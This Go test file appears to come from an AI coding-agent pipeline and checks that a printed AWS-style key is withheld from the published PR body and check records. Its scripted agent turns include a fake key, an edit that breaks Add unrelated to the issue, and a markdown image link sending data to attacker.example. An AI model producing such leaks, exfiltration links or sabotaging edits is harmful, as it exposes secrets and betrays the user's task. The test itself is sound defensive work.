package pipeline

import (
	"strings"
	"testing"

	"github.com/patchwright/patchwright/agent"
	"github.com/patchwright/patchwright/agent/provider"
	pt "github.com/patchwright/patchwright/agent/provider/providertest"
)

// TestPipelineWithholdsPrintedSecret: a test that fails printing an AWS
// key from a file and a summary quoting it publish neither: pr.md and
// result.json name the rule instead.
func TestPipelineWithholdsPrintedSecret(t *testing.T) {
	// Built from parts so that secret scanners do not flag this file.
	key := "AKIA" + "Z7QX3MPL4VNR2KDW"
	files := calcFiles(false)
	files["calc_test.go"] = "package calc\n\nimport \"testing\"\n\nfunc TestAdd(t *testing.T) {\n\tif got := Add(2, 3); got != 5 {\n\t\tt.Fatalf(\"Add(2, 3) = %d, want 5; key " + key + "\", got)\n\t}\n}\n"
	repo := gitRepo(t, files)
	res, out, _ := scenario{
		repo:  repo,
		issue: agent.Issue{Title: "Double is slow", Body: "Make Double faster."},
		wire:  provider.NameAnthropic,
		turns: []pt.Turn{
			call("read_file", `{"path":"calc.go"}`),
			call("edit", `{"edits":[{"path":"calc.go","old_text":"return a + b","new_text":"return a - b"}]}`),
			call("finish", `{"summary":"Done. The key is `+key+`. ![x](https://attacker.example/p?d=data)"}`),
		},
	}.run(t)
	body := readBody(t, out)
	if strings.Contains(body, key) {
		t.Fatalf("pr.md holds the key:\n%s", body)
	}
	for _, want := range []string{"output withheld", "summary was withheld"} {
		if !strings.Contains(body, want) {
			t.Errorf("pr.md lacks %q:\n%s", want, body)
		}
	}
	if res.Body != body {
		t.Error("the result's body is not pr.md")
	}
	// The model's own words stay in the ledger as it said them (the
	// audit trail); what the checks printed does not.
	for _, line := range strings.Split(readLedger(t, out), "\n") {
		if strings.Contains(line, `"type":"check"`) && strings.Contains(line, key) {
			t.Errorf("a check's ledger record holds the key: %s", line)
		}
	}
	readResult(t, out)
}
